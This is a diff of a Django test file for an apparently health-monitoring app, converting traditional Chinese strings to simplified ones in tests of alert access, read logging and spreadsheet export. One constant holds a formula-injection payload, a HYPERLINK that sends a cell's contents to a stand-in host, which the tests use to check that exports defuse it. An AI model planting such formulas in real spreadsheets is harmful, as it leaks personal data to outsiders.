@@ -20,7 +20,7 @@ pytestmark = pytest.mark.django_db
 
 
 def _observation_in_jiwu() -> Observation:
-    return Observation.objects.filter(node__name="機務小區").order_by("pk").first()
+    return Observation.objects.filter(node__name="机务小区").order_by("pk").first()
 
 
 def _alert(kind: str) -> Alert:
@@ -39,7 +39,7 @@ def test_missed_follow_up_alerts_are_the_supervisors_not_health_staffs(health, s
     # by the page or by the API, exactly as an alert that does not exist.
     assert hc.get(f"/alerts/{missed.pk}/").status_code == 404
     resolve = hc.post(
-        f"/api/alerts/{missed.pk}/resolve", {"resolution": "閱"}, content_type="application/json"
+        f"/api/alerts/{missed.pk}/resolve", {"resolution": "阅"}, content_type="application/json"
     )
     assert resolve.status_code == 404
     missed.refresh_from_db()
@@ -57,7 +57,7 @@ def test_the_alert_page_logs_the_read(health):
 
 def test_correcting_a_self_report_logs_the_read(grid_worker):
     pending = Declaration.objects.filter(
-        status=DeclarationStatus.PENDING, node__name="機務小區"
+        status=DeclarationStatus.PENDING, node__name="机务小区"
     ).first()
     assert pending is not None  # the demo city holds one
     before = _reads(grid_worker)
@@ -68,7 +68,7 @@ def test_correcting_a_self_report_logs_the_read(grid_worker):
 
 def test_a_refused_decision_form_logs_the_read_it_shows(health):
     awaiting = (
-        Declaration.objects.filter(status=DeclarationStatus.CONFIRMED, node__name="機務小區")
+        Declaration.objects.filter(status=DeclarationStatus.CONFIRMED, node__name="机务小区")
         .exclude(proposal="cleared")
         .first()
     )
@@ -89,12 +89,12 @@ def test_a_door_form_with_errors_logs_the_read_it_shows(grid_worker):
     assert _reads(grid_worker) == before + 1
 
 
-FORMULA = '=HYPERLINK("http://x.example/?"&C2,"點我")'
+FORMULA = '=HYPERLINK("http://x.example/?"&C2,"点我")'
 
 
 def test_an_xlsx_export_keeps_formula_like_text_as_text():
     out = io.BytesIO()
-    sheets.write_xlsx(out, ["地址", "手機號碼"], [[FORMULA, "13977110001"]])
+    sheets.write_xlsx(out, ["地址", "手机号码"], [[FORMULA, "13977110001"]])
     out.seek(0)
     sheet = load_workbook(out).active
     cell = sheet.cell(row=2, column=1)
@@ -107,15 +107,15 @@ def test_a_csv_export_defuses_formulas_and_the_import_reads_them_back_as_typed()
     headers = sheets.template_headers("hant")
     row = [""] * len(headers)
     row[headers.index("地址")] = FORMULA
-    row[headers.index("姓名")] = "+張三"
+    row[headers.index("姓名")] = "+张三"
     sheets.write_csv(out, headers, [row])
     text = out.getvalue().decode("utf-8-sig")
-    assert "'=HYPERLINK" in text and "'+張三" in text
+    assert "'=HYPERLINK" in text and "'+张三" in text
     sheet = sheets.read_sheet(out.getvalue(), sheets.CSV)
     _line, cells = sheet.rows[0]
     values = sheet.values(cells)
     assert FORMULA in values.values()
-    assert "+張三" in values.values()
+    assert "+张三" in values.values()
 
 
 def test_a_client_id_of_another_persons_declaration_is_refused(grid_worker, jiwu_person):
@@ -155,7 +155,7 @@ def test_a_client_id_of_an_observation_elsewhere_is_refused(health, supervisor, 
         last_exposure=timezone.localdate(),
         client_id=key,
     )
-    mine = Observation.objects.filter(node__name="機務小區").first().person
+    mine = Observation.objects.filter(node__name="机务小区").first().person
     with pytest.raises(Conflict) as refused:
         observation_start(
             actor=supervisor,
